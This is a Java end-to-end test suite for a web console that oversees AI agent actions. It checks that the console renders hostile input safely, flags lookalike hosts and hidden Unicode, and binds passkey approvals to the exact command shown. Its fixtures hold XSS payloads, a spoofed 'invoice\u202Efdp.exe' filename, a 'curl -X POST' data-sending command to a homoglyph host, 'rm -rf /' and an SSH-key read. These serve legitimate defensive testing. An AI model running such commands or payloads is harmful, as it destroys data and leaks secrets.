package mirror.app.e2e;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.GeneralSecurityException;
import java.security.KeyFactory;
import java.security.MessageDigest;
import java.security.Signature;
import java.security.spec.X509EncodedKeySpec;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.TreeSet;
import java.util.concurrent.ThreadLocalRandom;
import java.util.regex.Pattern;
import java.util.zip.GZIPOutputStream;
import mirror.bench.Chromium;
import mirror.bench.Tab;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

/** The console's pages in Debian's Chromium, before a daemon that answers what no real one could be brought to. */
final class ConsolePagesIT {
    private static final String EVIL = "<img src=x onerror=\"window.pwned=1\"><script>window.pwned=1</script>";
    private static final String HIDDEN = "invoice\u202Efdp.exe\u200B\u2066";
    private static final int MOST_BYTES = 150 * 1024;

    private static final List<String> PAGES = List.of(
            "map",
            "map/service%3Abackup",
            "timeline",
            "timeline/here-7",
            "sessions",
            "sessions/11111111",
            "approvals",
            "approvals/a1",
            "trust",
            "trust/Denials",
            "trust/What%20if",
            "trust/Policy",
            "vault",
            "vault?q=login",
            "vault/Login.md",
            "vault?tab=Review",
            "vault?tab=Disputes",
            "vault?tab=Upkeep",
            "tiers",
            "pulse",
            "pulse/Services",
            "pulse/Services/backup",
            "pulse/Incidents",
            "pulse/Reliability",
            "report",
            "stats",
            "capture",
            "device");

    @SuppressWarnings("NullAway.Init")
    private static Chromium browser;

    @SuppressWarnings("NullAway.Init")
    private PlayedConsole daemon;

    @SuppressWarnings("NullAway.Init")
    private Tab page;

    @BeforeAll
    static void start(@TempDir(factory = OutsideTemp.class) Path profile) throws IOException {
        browser = Screens.browser(profile);
    }

    @AfterAll
    static void end() {
        if (browser != null) {
            browser.close();
        }
    }

    @BeforeEach
    void open() {
        daemon = new PlayedConsole().snapshot(snapshot());
        play(daemon);
        page = browser.open();
        page.before("if (location.protocol === 'http:') localStorage.setItem('mirror.key', 'key')");
        page.sized(1440, 900, true);
    }

    @AfterEach
    void close() {
        daemon.close();
    }

    private static ObjectNode node(String id, String name, String state) {
        return PlayedConsole.JSON
                .createObjectNode()
                .put("id", id)
                .put("kind", id.contains(":") ? id.substring(0, id.indexOf(':')) : id)
                .put("name", name)
                .put("state", state)
                .put("note", state.equals("ok") ? "" : EVIL)
                .put("parent", id.startsWith("device") ? "" : "device:here")
                .put("critical", false)
                .put("waiting", state.equals("waiting") ? 1 : 0);
    }

    private static ObjectNode line(long seq, String text) {
        ObjectNode line = PlayedConsole.JSON
                .createObjectNode()
                .put("seq", seq)
                .put("id", "here-" + seq)
                .put("type", seq % 3 == 0 ? "mirror.action.decided.v1" : "mirror.session.prompted.v1")
                .put("time", Instant.now().toString())
                .put("subject", "s" + seq)
                .put("actor", EVIL)
                .put("session", "11111111")
                .put("permit", "")
                .put(
                        "proof",
                        List.of("verified", "pending", "broken", "unsigned").get((int) (seq % 4)))
                .put("text", text);
        line.putArray("nodes").add("agent:claude").add("gate").add("log");
        return line;
    }

    private static ObjectNode snapshot() {
        ObjectNode all = PlayedConsole.JSON
                .createObjectNode()
                .put("seq", 40)
                .put("origin", "here")
                .put("time", Instant.now().toString());
        var map = all.putObject("map");
        map.putObject("layout").putArray("service:notes").add(90).add(-120);
        var nodes = map.putArray("nodes");
        nodes.add(node("device:here", "here", "ok"));
        for (String each : List.of("gate", "log", "vault", "gateway")) {
            nodes.add(node(each, each, "ok"));
        }
        for (String state : List.of("ok", "failing", "warning", "unknown", "quarantined", "busy", "off", "sparkling")) {
            nodes.add(node("service:" + state, state, state));
        }
        nodes.add(node("service:backup", "backup", "failing"));
        nodes.add(node("service:notes", EVIL, "ok"));
        nodes.add(node("agent:claude", HIDDEN, "waiting"));
        nodes.add(node("session:11111111", "x".repeat(10_000), "busy"));
        nodes.add(node("hologram:" + EVIL, "", "ok"));
        var edges = map.putArray("edges");
        edges.addObject().put("from", "agent:claude").put("to", "gate").put("kind", "asks");
        edges.addObject().put("from", "gone").put("to", "gate").put("kind", "asks");
        var events = all.putArray("events");
        for (int i = 1; i <= 40; i++) {
            events.add(line(i, i % 5 == 0 ? EVIL : i % 7 == 0 ? HIDDEN : "block Bash: cat ~/.ssh/key"));
        }
        all.putArray("approvals").add(approval("a1"));
        return all;
    }

    private static ObjectNode approval(String id) {
        return approval(id, "curl -X POST https://ex\u0430mple.com/ -d \"" + HIDDEN + "\"\n\nsecond line");
    }

    private static ObjectNode approval(String id, String command) {
        ObjectNode envelope = PlayedConsole.JSON.createObjectNode();
        ObjectNode action =
                envelope.putObject("action").put("actor", "claude-code").put("cwd", "/home/ada/project");
        action.putObject("input").put("command", command);
        action.put("session", "11111111").put("tool", "Bash");
        String until = Instant.now().plusSeconds(300).toString();
        envelope.put("approval", id).putArray("effects").add("talks to example.com");
        envelope.put("expires", until)
                .put("nonce", "00ff")
                .put("project", "/home/ada/project")
                .put("reason", "this cannot be taken back")
                .put("risk", "external-irreversible");
        return waiting(id, PlayedConsole.JSON.writeValueAsString(envelope), fourWords(action.toString()), until);
    }

    private static ObjectNode waiting(String id, String envelope, String code, String until) {
        ObjectNode json = PlayedConsole.JSON
                .createObjectNode()
                .put("id", id)
                .put("actor", "claude-code")
                .put("session", "11111111")
                .put("tool", "Bash")
                .put("reason", "this cannot be taken back")
                .put("asked", Instant.now().toString())
                .put("expires", until)
                .put("until", until)
                .put("code", code)
                .put("envelope", envelope);
        json.putArray("scopes").add("once").add("session");
        return json;
    }

    private static byte[] sha256(String text) {
        try {
            return MessageDigest.getInstance("SHA-256").digest(text.getBytes(StandardCharsets.UTF_8));
        } catch (GeneralSecurityException e) {
            throw new AssertionError(e);
        }
    }

    /** As the daemon makes them, written down a second time. */
    private static String fourWords(String action) {
        try {
            JsonNode words = PlayedConsole.JSON.readTree(Files.readString(PlayedConsole.FILES.resolve("words.json")));
            byte[] digest = sha256(action);
            long bits = 0;
            for (int i = 0; i < 6; i++) {
                bits = bits << 8 | (digest[i] & 0xff);
            }
            bits >>= 4;
            List<String> all = new ArrayList<>();
            for (int shift = 33; shift >= 0; shift -= 11) {
                all.add(words.get((int) (bits >> shift) & 2047).asString());
            }
            return String.join(" ", all);
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }

    /** Answers in the form of the real ones, and hostile where they hold text of others. */
    private static void play(PlayedConsole daemon) {
        String evil = PlayedConsole.JSON.writeValueAsString(EVIL);
        ObjectNode waiting = PlayedConsole.JSON.createObjectNode();
        waiting.putArray("approvals").add(approval("a1"));
        ObjectNode events =
                PlayedConsole.JSON.createObjectNode().put("more", false).put("next", 1);
        events.putArray("events").add(line(7, EVIL)).add(line(6, HIDDEN));
        String event =
                "{\"event\":{\"id\":\"here-7\",\"type\":\"mirror.x.y.v1\",\"time\":\"2026-01-01T00:00:00Z\",\"data\":{\"a\":"
                        + evil + ",\"b\":[{\"c\":1}]}},\"line\":" + evil
                        + ",\"proof\":{\"state\":\"verified\",\"words\":\"it is\"},\"causes\":[\"here-1\"],\"chain\":[]}";
        daemon.answers("me", "{\"device\":\"here\",\"version\":\"1\",\"session\":{\"id\":\"c\",\"name\":" + evil + "}}")
                .answers("pair", "{\"key\":\"key\",\"expires\":\"2030-01-01T00:00:00Z\"}")
                .answers("layout", "{}")
                .answers("capture", "{\"seq\":41}")
                .answers("approvals", waiting.toString())
                .answers("events", events.toString())
                .answers("events/here-7", event)
                .answers("events/here-6", event)
                .answers(
                        "map",
                        "{\"seq\":1,\"time\":\"2026-01-01T00:00:00Z\",\"map\":"
                                + snapshot().path("map") + "}")
                .answers(
                        "note",
                        "{\"path\":\"Login.md\",\"digest\":\"00\",\"text\":"
                                + PlayedConsole.JSON.writeValueAsString("# Login\n\n" + EVIL
                                        + "\n\n[a](javascript:window.pwned=1) ![b](https://elsewhere.example/x.png) [[Cookies]]\n\n```html\n"
                                        + EVIL + "\n```\n\n> quote\n\n| a | b |\n|---|---|\n| " + HIDDEN + " | 2 |\n")
                                + ",\"links\":[{\"link\":\"Cookies\",\"target\":\"Cookies.md\"}],\"backlinks\":[{\"source\":\"B.md\",\"line\":1}]}")
                .answers("passkeys", "{\"rp\":\"localhost\",\"user\":\"YWRh\",\"list\":[]}")
                .views(
                        "session",
                        "[{\"id\":\"11111111\",\"client\":\"claude-code\",\"project\":\"/p\",\"state\":\"open\",\"opened\":\"2026-01-01T00:00:00Z\",\"last\":\""
                                + Instant.now() + "\",\"intent\":" + evil + ",\"actions\":3,\"denials\":1}]")
                .views(
                        "session show 11111111",
                        "{\"id\":\"11111111\",\"client\":\"claude-code\",\"project\":\"/p\",\"state\":\"open\",\"opened\":\"2026-01-01T00:00:00Z\",\"last\":\"2026-01-01T00:01:00Z\",\"intent\":"
                                + evil + ",\"answer\":" + evil
                                + ",\"prompts\":1,\"actions\":3,\"failures\":0,\"denials\":1,\"crystal\":\"/v/Mirror/s.md\",\"files\":[\"/p/a\"],\"later\":{\"new\":true}}")
                .views("handoff", "[]")
                .views(
                        "lease",
                        "[{\"id\":\"l1\",\"holder\":" + evil
                                + ",\"state\":\"valid\",\"granted\":\"2026-01-01T00:00:00Z\",\"by\":\"owner\",\"events\":[],\"effects\":[\"run:git\"],\"expires\":\"2030-01-01T00:00:00Z\",\"spent\":{\"actions\":2}}]")
                .views(
                        "denials",
                        "{\"stopped\":{},\"denials\":[{\"event\":\"here-7\",\"time\":\"" + Instant.now()
                                + "\",\"actor\":\"claude\",\"session\":\"1\",\"tool\":\"Bash\",\"rule\":\"secrets\",\"reason\":"
                                + evil + "}]}")
                .views("policy", PlayedConsole.JSON.writeValueAsString("rules:\n" + EVIL))
                .views(
                        "search",
                        "{\"hits\":[{\"path\":\"Login.md\",\"heading\":" + evil
                                + ",\"first\":1,\"last\":1,\"text\":\"the login\",\"marks\":[[4,9],[100,2]]}],\"total\":1}")
                .views("ask", "{\"sentences\":[{\"quote\":" + evil + ",\"path\":\"Login.md\",\"first\":1,\"last\":1}]}")
                .views("vault", "[]")
                .views("vault status", "{\"notes\":3,\"pending\":0}")
                .views("canon", "[{\"claim\":\"c1\",\"says\":" + evil + ",\"standing\":\"FACT\",\"stale\":true}]")
                .views("cost", "[{\"day\":\"2026-01-01\",\"calls\":1,\"cached\":0,\"in\":10,\"out\":2,\"money\":1200}]")
                .views("budget", "[{\"agent\":\"all\",\"unit\":\"money\",\"spent\":1,\"aside\":0,\"per-day\":5000000}]")
                .views("tiers", "{\"providers\":[],\"routes\":[]}")
                .views(
                        "pulse",
                        "{\"well\":false,\"checks\":[{\"id\":\"disk:/\",\"critical\":true,\"state\":\"warning\",\"reason\":"
                                + evil + "}]}")
                .views(
                        "service",
                        "{\"services\":[{\"name\":\"backup\",\"state\":\"failing\",\"reason\":" + evil
                                + ",\"critical\":true,\"failures\":2}],\"faults\":[]}")
                .views("service show backup", "{\"name\":\"backup\",\"state\":\"failing\"}")
                .views("service logs backup", evil)
                .views(
                        "reliability",
                        "[{\"mechanism\":\"restart\",\"tested\":true,\"runs\":9,\"successes\":8,\"failures\":1,\"least\":0.6,\"most\":0.98}]")
                .views(
                        "report",
                        "{\"date\":\"2026-01-01\",\"made\":\"2026-01-01T07:00:00Z\",\"from\":1,\"upto\":2,\"sections\":[{\"name\":\"Denials\",\"count\":1,\"lines\":[{\"text\":"
                                + evil + ",\"source\":\"here-7\"}]}]}")
                .views(
                        "stats",
                        "{\"at\":\"2026-01-01T00:00:00Z\",\"numbers\":[{\"name\":\"events\",\"value\":12,\"definition\":"
                                + evil + "},{\"name\":\"restarts\",\"value\":null,\"reason\":\"nobody said\"}]}");
    }

    private void turn(String hash) {
        page.eval("location.hash = '#/" + hash + "'");
        String name = hash.split("[/?]", 2)[0];
        page.until("document.querySelector('main > page-" + name + "')");
        // Two frames after the last answer, whatever was asked for has been put in its place.
        page.until("!document.querySelector('main').innerText.includes('Loading…')");
        page.eval("new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))");
    }

    private void arrive() {
        page.go(daemon.url());
        page.until("document.querySelector('.chips')?.childElementCount");
    }

    @Test
    void everyPageStandsOnPhoneAndDeskInLightAndDarkWithoutAComplaintAndScriptStaysText() {
        for (boolean phone : List.of(true, false)) {
            for (boolean dark : List.of(true, false)) {
                page.sized(phone ? 390 : 1440, phone ? 844 : 900, dark);
                arrive();
                for (String hash : PAGES) {
                    turn(hash);
                    String name = hash.replaceAll("%..|[^A-Za-z0-9]+", "-")
                            + (phone ? "-phone" : "-desk")
                            + (dark ? "-dark" : "-light");
                    Screens.keep(page, name);
                    assertThat(page.complaints()).as(name).isEmpty();
                    assertThat(page.eval("window.pwned === undefined").asBoolean(false))
                            .as(name)
                            .isTrue();
                    assertThat(page.eval("document.querySelectorAll('main img, main script').length")
                                    .asInt(1))
                            .as(name)
                            .isZero();
                    assertThat(page.eval("document.documentElement.scrollWidth <= innerWidth")
                                    .asBoolean(false))
                            .as("%s is not wider than the window", name)
                            .isTrue();
                }
            }
        }
    }

    @Test
    void axeFindsNothingGrave() {
        assumeTrue(Screens.hasAxe(), "axe-core is not installed in target/npm");
        for (boolean phone : List.of(true, false)) {
            page.sized(phone ? 390 : 1440, phone ? 844 : 900, !phone);
            arrive();
            for (String hash : PAGES) {
                turn(hash);
                assertThat(Screens.axe(page)).as(hash).noneMatch(found -> found.matches("(serious|critical) .*"));
            }
        }
    }

    @Test
    void markupFromAScriptIsRefusedByTheBrowserItself() {
        arrive();
        assertThatThrownBy(() -> page.eval("document.body.innerHTML = '<b>x</b>'"))
                .hasMessageContaining("TrustedHTML");
        assertThat(page.eval("new Promise((done) => { const s = document.createElement('script');"
                                + " try { s.textContent = 'window.pwned = 1'; document.body.append(s); } catch {}"
                                + " setTimeout(() => done(window.pwned === undefined)); })")
                        .asBoolean(false))
                .isTrue();
        page.forgive("Content.Security.Policy|Trusted|trusted");
        assertThat(page.complaints()).isEmpty();
    }

    @Test
    void anAnswerOfAnyShapeIsShownAndBreaksNoPage() {
        List<String> shapes = List.of(
                "null",
                "[]",
                "{}",
                "42",
                "\"text\"",
                "[1,[2,[3]]]",
                "[{\"unheard\":{\"of\":[null,true]}}]",
                "{\"unheard\":[{\"of\":1},{\"of\":\"two\"}]}");
        arrive();
        for (String shape : shapes) {
            for (String view : List.of(
                    "session",
                    "session show 11111111",
                    "lease",
                    "denials",
                    "policy",
                    "search",
                    "ask",
                    "vault",
                    "vault status",
                    "canon",
                    "cost",
                    "budget",
                    "tiers",
                    "pulse",
                    "service",
                    "reliability",
                    "report",
                    "stats",
                    "handoff")) {
                daemon.views(view, shape);
            }
            for (String hash : PAGES) {
                turn(hash);
                assertThat(page.complaints()).as("%s of %s", hash, shape).isEmpty();
                assertThat(page.text("main")).as("%s of %s", hash, shape).doesNotContain("cannot show what came");
            }
        }
    }

    @Test
    void hundredsOfEventsASecondArriveInOrderAndTheListStaysSmall() {
        arrive();
        turn("timeline");
        for (int seq = 41; seq <= 1_040; seq++) {
            daemon.tell("event", line(seq, "number " + seq));
        }
        page.until("document.querySelector('.row .line').textContent === 'number 1040'");
        assertThat(page.eval("document.querySelectorAll('.row').length").asInt(1_000))
                .isLessThan(60);
        assertThat(page.eval("[...document.querySelectorAll('.row')].slice(0, 10).map((r) => r.line.seq).join()")
                        .asString())
                .isEqualTo("1040,1039,1038,1037,1036,1035,1034,1033,1032,1031");
        assertThat(page.complaints()).isEmpty();
    }

    @Test
    void aStreamThatBreaksIsGoneOnWithAfterTheLastEvent() {
        arrive();
        assertThat(daemon.resumed()).isEmpty();
        daemon.tell("event", line(41, "the last one"));
        page.until("import('./live.js').then(({live}) => window.seq = live.seq), window.seq === 41");
        daemon.hangUp();
        assertThat(daemon.resumed()).isEqualTo("41");
        page.until("import('./live.js').then(({live}) => window.on = live.online), window.on");
        page.forgive("Failed to load|ERR_INCOMPLETE|net::");
        assertThat(page.complaints()).isEmpty();
    }

    // ---- approvals

    private void enrolled() {
        page.authenticator();
        ObjectNode options =
                PlayedConsole.JSON.createObjectNode().put("challenge", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA");
        options.putObject("rp").put("id", "localhost").put("name", "Mirror");
        options.putObject("user").put("id", "YWRh").put("name", "ada").put("displayName", "Ada");
        var kinds = options.putArray("pubKeyCredParams");
        for (int algorithm : new int[] {-7, -8, -257}) {
            kinds.addObject().put("type", "public-key").put("alg", algorithm);
        }
        options.putObject("authenticatorSelection").put("userVerification", "required");
        daemon.answers("passkeys/begin", options.toString());
        page.go(daemon.url());
        page.eval("import('./passkeys.js').then(({enrol}) => enrol('CODE'))");
        JsonNode made = daemon.calls("passkeys").getLast().body();
        daemon.answers(
                "passkeys",
                "{\"rp\":\"localhost\",\"user\":\"YWRh\",\"list\":[{\"id\":\""
                        + made.path("id").asString() + "\",\"name\":\"phone\"}]}");
    }

    private void look(ObjectNode approval) {
        ObjectNode all = PlayedConsole.JSON.createObjectNode();
        all.putArray("approvals").add(approval);
        daemon.answers("approvals", all.toString());
        page.sized(390, 844, true);
        page.go(daemon.url() + "#/approvals/" + approval.path("id").asString());
        page.until("document.querySelector('.answer')");
    }

    private static byte[] decoded(JsonNode text) {
        return Base64.getUrlDecoder().decode(text.asString());
    }

    @Test
    void aPasskeySignsExactlyWhatIsShownForThisActionAndScope() throws GeneralSecurityException {
        enrolled();
        ObjectNode approval = approval("a9");
        daemon.answers("approvals/a9/allow", "{\"answer\":\"allow\"}");
        look(approval);
        assertThat(page.text(".words")).isEqualTo(approval.path("code").asString());
        assertThat(page.text(".signed")).contains("⟨U+202E⟩", "⟨U+200B⟩", "second line", "U+0430", "/home/ada/project");
        page.eval("document.querySelector('input[value=session]').click()");
        page.eval("document.querySelector('.one-body').scrollTop = 1e7");
        page.until("document.querySelector('.answer .first:not([disabled])')");
        Screens.keep(page, "approval-read");
        page.click(".answer .first");
        page.until("document.querySelector('.said')?.textContent.startsWith('Allowed')");

        JsonNode body = daemon.calls("approvals/a9/allow").getLast().body();
        assertThat(body.path("scope").asString()).isEqualTo("session");
        JsonNode assertion = body.path("assertion");
        byte[] client = decoded(assertion.path("clientDataJSON"));
        byte[] authenticator = decoded(assertion.path("authenticatorData"));
        JsonNode said = PlayedConsole.JSON.readTree(client);
        assertThat(said.path("type").asString()).isEqualTo("webauthn.get");
        assertThat(decoded(said.path("challenge")))
                .isEqualTo(sha256(
                        "mirror.approval.v1\n" + approval.path("envelope").asString() + "\nsession"));
        assertThat(authenticator[32] & 0x05).as("present and verified").isEqualTo(0x05);
        JsonNode made = daemon.calls("passkeys").stream()
                .filter(call -> call.method().equals("POST"))
                .toList()
                .getLast()
                .body();
        assertThat(made.path("algorithm").asInt()).isEqualTo(-7);
        Signature check = Signature.getInstance("SHA256withECDSA");
        check.initVerify(
                KeyFactory.getInstance("EC").generatePublic(new X509EncodedKeySpec(decoded(made.path("publicKey")))));
        check.update(authenticator);
        check.update(MessageDigest.getInstance("SHA-256").digest(client));
        assertThat(check.verify(decoded(assertion.path("signature")))).isTrue();
        assertThat(page.complaints()).isEmpty();
    }

    private void cannotBeAllowed(ObjectNode approval, String why) {
        look(approval);
        page.eval("document.querySelector('.one-body').scrollTop = 1e7");
        page.until("document.querySelector('.said').textContent.includes(" + Tab.quoted(why) + ")");
        page.until("document.querySelector('.answer .first').textContent === 'Cannot be allowed'");
        assertThat(page.eval("document.querySelector('.answer .first').disabled")
                        .asBoolean(false))
                .isTrue();
        assertThat(page.eval("document.querySelector('.answer .grave').disabled")
                        .asBoolean(true))
                .as("it can be denied")
                .isFalse();
    }

    @Test
    void whatIsNotWhatTheTerminalShowsCannotBeAllowed() {
        enrolled();
        ObjectNode swapped = approval("a9", "rm -rf /");
        swapped.put("code", approval("a9", "ls").path("code").asString());
        cannotBeAllowed(swapped, "four words");
        ObjectNode other = approval("a9", "ls");
        other.put("tool", "Read");
        cannotBeAllowed(other, "differ in \"tool\"");
    }

    @Test
    void whatCanBeReadInTwoWaysCannotBeAllowed() {
        enrolled();
        String until = Instant.now().plusSeconds(300).toString();
        for (String envelope : List.of(
                "{\"action\":{\"tool\":\"Bash\",\"tool\":\"Read\"}}",
                "{\"action\":{\"tool\":\"Bash\"}} {}",
                "{\"action\":{\"tool\":\"Bash\",\"input\":01}}",
                "[]",
                "")) {
            cannotBeAllowed(waiting("a9", envelope, "one two three four", until), "It can only be denied");
        }
    }

    @Test
    void aDenialNeedsNoPasskey() {
        daemon.answers("approvals/a9/deny", "{\"answer\":\"deny\"}");
        look(approval("a9"));
        page.click(".answer .grave");
        page.until("document.querySelector('.said')?.textContent.startsWith('Denied')");
        assertThat(daemon.calls("approvals/a9/deny")).hasSize(1);
    }

    // ---- in, and out

    @Test
    void aOneTimeCodeIsWipedFromTheAddressAndLetsTheBrowserIn() {
        page.before(
                "if (location.protocol === 'http:' && !sessionStorage.getItem('came')) { localStorage.clear(); sessionStorage.setItem('came', '1'); }");
        page.go(daemon.url() + "#pair=SECRET");
        page.until("document.querySelector('page-pair button')");
        assertThat(page.eval("location.href").asString()).doesNotContain("SECRET");
        assertThat(page.eval("history.length").asInt(99)).isLessThan(10);
        Screens.keep(page, "pair");
        page.click("page-pair button");
        page.until("document.querySelector('.chips')?.childElementCount");
        assertThat(daemon.calls("pair").getFirst().body().path("code").asString())
                .isEqualTo("SECRET");
    }

    @Test
    void whatIsCapturedWithoutANetworkArrivesOnceThereIsOne() {
        arrive();
        turn("capture");
        page.eval("navigator.serviceWorker.ready.then(() => true)");
        page.offline(true);
        page.type(".capture-text", "a thought on a train");
        page.click(".capture button");
        page.until("document.querySelector('.waiting .items')");
        page.offline(false);
        page.until("!document.querySelector('.waiting .items')");
        List<JsonNode> sent = daemon.calls("capture").stream()
                .map(PlayedConsole.Call::body)
                .distinct()
                .toList();
        assertThat(sent).hasSize(1);
        assertThat(sent.getFirst().path("text").asString()).isEqualTo("a thought on a train");
        page.forgive("Failed to load|net::");
        assertThat(page.complaints()).isEmpty();
    }

    @Test
    void theWorkerKeepsTheShellAndNoAnswerOfTheDaemon() {
        arrive();
        page.eval("navigator.serviceWorker.ready.then(() => true)");
        page.until("navigator.serviceWorker.controller");
        turn("timeline");
        turn("vault/Login.md");
        List<String> kept = page.eval(
                        "(async () => { const all = []; for (const name of await caches.keys()) for (const r of await (await caches.open(name)).keys()) all.push(new URL(r.url).pathname); return all; })()")
                .valueStream()
                .map(JsonNode::asString)
                .toList();
        assertThat(kept).contains("/console/", "/console/page-vault.js", "/console/words.json");
        assertThat(kept).noneMatch(path -> path.startsWith("/console/api/"));
    }

    // ---- the files

    @Test
    void theWorkerNamesEveryFileOfTheShell() throws IOException {
        String worker = Files.readString(PlayedConsole.FILES.resolve("sw.js"));
        var named = new TreeSet<String>();
        var names = Pattern.compile("'([a-z0-9-]+\\.[a-z]+)'")
                .matcher(worker.substring(worker.indexOf("SHELL = ["), worker.indexOf("];")));
        while (names.find()) {
            named.add(names.group(1));
        }
        try (var files = Files.list(PlayedConsole.FILES)) {
            assertThat(named)
                    .containsExactlyInAnyOrderElementsOf(files.map(
                                    file -> file.getFileName().toString())
                            .filter(name -> !name.matches("index\\.html|sw\\.js|manifest\\.webmanifest|.*\\.png"))
                            .toList());
        }
    }

    @Test
    void allOfItIsSmall() throws IOException {
        long bytes = 0;
        try (var files = Files.list(PlayedConsole.FILES)) {
            for (Path file : files.toList()) {
                ByteArrayOutputStream packed = new ByteArrayOutputStream();
                try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
                    gzip.write(Files.readAllBytes(file));
                }
                bytes += packed.size();
            }
        }
        assertThat(bytes).isLessThan(MOST_BYTES);
    }

    @Test
    void differencesGiveBothTextsBackAndStrictReadingAgreesWithTheBrowsers() {
        long seed = ThreadLocalRandom.current().nextLong(1L << 31);
        page.go(daemon.url());
        String fault = page.eval("""
                        (async () => {
                          const { diff } = await import('./diff.js');
                          const { read, Digits } = await import('./strict-json.js');
                          let state = %d;
                          const random = (n) => (state = (state * 48271 + 11) %% 2147483647) %% n;
                          const lines = () => Array.from({ length: random(14) }, () => 'abcde'[random(5)] + '\\n').join('');
                          for (let round = 0; round < 2000; round++) {
                            const [a, b] = [lines(), lines()];
                            const rows = diff(a, b);
                            const side = (other) => rows.filter((row) => row.kind !== other).map((row) => row.text + '\\n').join('');
                            if (side('add') !== a || side('cut') !== b) return `diff of ${JSON.stringify([a, b])}`;
                          }
                          const plain = (v) => v instanceof Map ? Object.fromEntries([...v].map(([k, e]) => [k, plain(e)])) : Array.isArray(v) ? v.map(plain) : v instanceof Digits ? Number(v.text) : v;
                          const value = (deep) => [() => random(1e6) / 7, () => null, () => random(2) === 0, () => String.fromCharCode(random(0xd7ff)) + '"\\\\', () => Array.from({ length: random(4) }, () => value(deep + 1)),
                            () => Object.fromEntries(Array.from({ length: random(4) }, () => ['k' + random(99), value(deep + 1)]))][deep > 4 ? random(4) : random(6)]();
                          for (let round = 0; round < 2000; round++) {
                            const text = JSON.stringify(value(0), null, random(3));
                            if (JSON.stringify(plain(read(text))) !== JSON.stringify(JSON.parse(text))) return `read of ${text}`;
                            const cut = text.slice(0, random(text.length));
                            let whole = true;
                            try { JSON.parse(cut); } catch { whole = false; }
                            let ours = true;
                            try { read(cut); } catch { ours = false; }
                            if (ours !== whole) return `read of the cut ${cut}`;
                          }
                          return '';
                        })()""".formatted(seed)).asString();
        assertThat(fault).as("seed %d", seed).isEmpty();
    }

    @Test
    void whatHidesIsNamedAndWhatLooksLikeAnotherHostIsSaid() {
        page.go(daemon.url());
        String shown = page.eval("import('./visible.js').then(({plain}) => plain("
                        + Tab.quoted(HIDDEN + "\u00A0\uFEFF\u3164\uDB40\uDC41") + "))")
                .asString();
        assertThat(shown).isEqualTo("invoice⟨U+202E⟩fdp.exe⟨U+200B⟩⟨U+2066⟩⟨U+00A0⟩⟨U+FEFF⟩⟨U+3164⟩⟨U+E0041⟩");
        List<String> suspicious =
                Arrays.asList("ex\u0430mple.com", "xn--exmple-cua.com", "user@evil.example", "0x7f.1");
        for (String host : suspicious) {
            assertThat(page.eval("import('./visible.js').then(({suspicion}) => suspicion(" + Tab.quoted(host) + "))")
                            .asString())
                    .as(host)
                    .isNotEmpty();
        }
        assertThat(page.eval("import('./visible.js').then(({suspicion}) => suspicion('example.com'))")
                        .asString())
                .isEmpty();
    }
}
